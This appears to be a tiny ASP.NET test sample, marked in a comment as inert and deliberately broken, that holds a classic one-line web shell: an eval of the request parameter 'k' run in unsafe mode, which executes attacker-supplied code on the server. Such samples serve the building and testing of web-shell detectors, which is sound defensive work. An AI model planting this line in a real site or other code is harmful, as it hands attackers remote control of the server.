<%@ Page Language="Jscript"%>
<% shodo inert sample: deliberate compile error, this page never runs %>
<% eval(Request.Item["k"],"unsafe"); %>
